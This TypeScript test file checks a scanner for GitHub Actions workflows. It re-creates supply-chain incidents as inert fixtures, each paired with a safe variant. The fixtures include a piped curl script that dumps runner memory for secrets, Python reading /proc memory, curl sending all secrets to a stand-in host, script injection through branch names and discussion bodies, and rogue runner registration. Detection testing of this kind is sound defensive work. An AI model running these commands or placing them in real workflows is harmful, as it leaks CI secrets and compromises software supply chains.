// Incidents that happened in workflows, made inert, each beside a workflow that does the same without the hole.
import { describe, expect, it } from 'vitest';
import { COMMIT, run, verdictsOn, workflow } from './inspect.ts';

const TOKEN = '- run: ./publish\n  env: { NPM_TOKEN: "${{ secrets.NPM_TOKEN }}" }';

describe('incidents', () => {
  it('a branch name in an action of a training library (December 2024)', async () => {
    const action = (script: string, env = ''): string =>
      `name: format\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${script}\n${env}`;
    expect(
      await verdictsOn(action('git pull origin ${{ github.head_ref || github.ref }}'), 'action.yml'),
    ).toEqual(['HIGH INJECTION']);
    const env = '      env: { HEAD: "${{ github.head_ref || github.ref }}" }\n';
    expect(await verdictsOn(action('git pull origin "$HEAD"', env), 'action.yml')).toEqual([]);
  });

  it('the tags of an action that lists changed files (March 2025)', async () => {
    const uses = (ref: string): string => workflow(`- uses: someone/changed-files@${ref}\n${TOKEN}`);
    expect(await verdictsOn(uses('v45'))).toEqual(['MEDIUM UNPINNED-USE']);
    expect(await verdictsOn(uses(`${COMMIT} # v45.0.1`))).toEqual([]);
  });

  it('the memory of the runner, read by what the tags pointed at', async () => {
    const dump = run(
      'curl -sSf https://example.invalid/dump.py | sudo python3 | tr -d "\\0" | grep -aoE \'"[^"]+":\\{"value":"[^"]*","isSecret":true\\}\' | base64',
    );
    expect(await verdictsOn(workflow(`${dump}\n${TOKEN}`))).toEqual([
      'HIGH PIPED-SCRIPT',
      'CRITICAL MEMORY-DUMP',
    ]);
    const python = run('python3 - <<EOF\nopen(f"/proc/{pid}/mem", "rb")\nEOF');
    expect(await verdictsOn(workflow(python))).toEqual(['CRITICAL MEMORY-DUMP']);
    expect(await verdictsOn(workflow(run('free -m && cat /proc/meminfo /proc/self/status')))).toEqual([]);
  });

  it('a worm that adds a workflow with all secrets (September 2025)', async () => {
    const steps = (data: string): string =>
      `- run: curl -d "$CONTENTS" https://example.invalid/hook\n  env: { CONTENTS: "${data}" }`;
    expect(await verdictsOn(workflow(steps('${{ toJSON(secrets) }}')))).toEqual([
      'CRITICAL ALL-SECRETS',
      'HIGH SECRET-SENT',
    ]);
    expect(await verdictsOn(workflow(steps('${{ toJSON(matrix) }}')))).toEqual([]);
  });

  it('the same worm, with a way back in through discussions (November 2025)', async () => {
    const text = (on: string, body: string, runner: string): string =>
      workflow(`- run: echo ${body}`, { on }).replace('ubuntu-latest', runner);
    const body = '${{ github.event.discussion.body }}';
    expect(await verdictsOn(text('discussion', body, 'self-hosted'))).toEqual([
      'HIGH INJECTION',
      'HIGH OPEN-RUNNER',
    ]);
    expect(await verdictsOn(text('discussion', 'hello', 'ubuntu-latest'))).toEqual([]);
    const register = run(
      'mkdir actions-runner && cd actions-runner\n./config.sh --url https://github.com/someone/x --unattended --token "$T" --name "SHA1"',
    );
    expect(await verdictsOn(workflow(register))).toEqual(['HIGH RUNNER-REGISTERED']);
  });

  it('tags of a scanner that were moved, and pins that followed them (March 2026)', async () => {
    const pin = (commit: string, version: string): string =>
      workflow(`- uses: someone/scan-action@${commit} # ${version}`);
    const before = pin(COMMIT, '0.34.0');
    expect(await verdictsOn(pin('b'.repeat(40), '0.34.0'), undefined, before)).toEqual(['HIGH MOVED-PIN']);
    expect(await verdictsOn(pin('b'.repeat(40), '0.35.0'), undefined, before)).toEqual([]);
  });

  it('a build of pull requests whose cache a release restores (May 2026)', async () => {
    const build = (on: string): string =>
      workflow(
        `- uses: actions/checkout@${COMMIT}
  with: { ref: "refs/pull/\${{ github.event.pull_request.number }}/merge" }
- uses: actions/cache@${COMMIT}
  with: { path: ~/.pnpm-store, key: deps }
- run: pnpm install && pnpm build`,
        { on },
      );
    expect(await verdictsOn(build('pull_request_target'))).toEqual(['HIGH PULL-REQUEST-CODE']);
    expect(await verdictsOn(build('pull_request'))).toEqual([]);
    const release = (step: string): string =>
      workflow(`${step}\n- run: pnpm publish`, { permissions: '{ id-token: write, contents: read }' });
    expect(await verdictsOn(release(`- uses: actions/cache@${COMMIT}`))).toEqual(['MEDIUM CACHE-IN-RELEASE']);
    expect(await verdictsOn(release(`- uses: actions/checkout@${COMMIT}`))).toEqual([]);
  });

  it('a package that is run straight from a commit of a repository (May 2026)', async () => {
    expect(await verdictsOn(workflow(`- run: npx -y github:someone/tool#558b09d7\n${TOKEN}`))).toEqual([
      'MEDIUM UNLOCKED-INSTALL',
    ]);
    expect(await verdictsOn(workflow(`- run: npm ci && npx tool\n${TOKEN}`))).toEqual([]);
  });
});
